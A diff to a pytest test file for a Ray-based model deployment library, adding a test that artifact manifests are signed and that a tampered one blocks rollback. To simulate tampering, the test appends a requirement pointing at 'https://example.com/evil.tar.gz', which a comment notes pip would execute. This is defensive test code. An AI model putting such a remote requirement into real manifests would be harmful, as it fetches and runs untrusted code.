@@ -1,5 +1,6 @@
 """Deploying on a real local Ray: function and class forms, placement, scale to zero."""
 
+import json
 import os
 import sys
 import time
@@ -202,6 +203,35 @@ def test_redeploy_is_a_no_op_new_code_is_a_new_version_and_rollback_restores(dep
     assert lambdaml.run("versioned", {}) == "v2"
     with pytest.raises(lambdaml.NotDeployedError, match="no version 'nope'"):
         lambdaml.rollback("versioned", version="nope")
+
+
+def test_artifacts_are_signed_with_the_cluster_key_and_a_changed_one_is_not_rolled_back_to(deployed):
+    from lambdaml._signing import KV_KEY, key_id
+    from lambdaml.artifacts import ArtifactTampered
+    from lambdaml.cluster.ray_internals import kv_get
+
+    key_file = Path(os.environ["LAMBDAML_SIGNING_KEY_FILE"])
+    assert key_file.stat().st_mode & 0o777 == 0o600  # written by the keeper at `up`, for restarts
+    assert kv_get(KV_KEY) == key_file.read_text().strip()
+
+    def make(greeting: str):
+        @model(name="signed", cpu=0.1, min=1)
+        def signed() -> str:
+            return greeting
+
+        return signed
+
+    first = deployed(make("v1"))
+    make("v2").deploy()
+    folder = Path(os.environ["LAMBDAML_ARTIFACTS"]) / "signed" / first.version
+    assert (folder / "signatures" / key_id(key_file.read_text().strip().encode())).is_file()
+    manifest = folder / "manifest.json"
+    changed = json.loads(manifest.read_text())
+    changed["requirements"].append("evil @ https://example.com/evil.tar.gz")  # pip would run its setup.py
+    manifest.write_text(json.dumps(changed))
+    with pytest.raises(ArtifactTampered, match="does not match its signature"):
+        lambdaml.rollback("signed")
+    assert lambdaml.run("signed", {}) == "v2"  # what runs is untouched
 
 
 def test_a_python_version_mismatch_stops_the_deploy(cluster, monkeypatch):
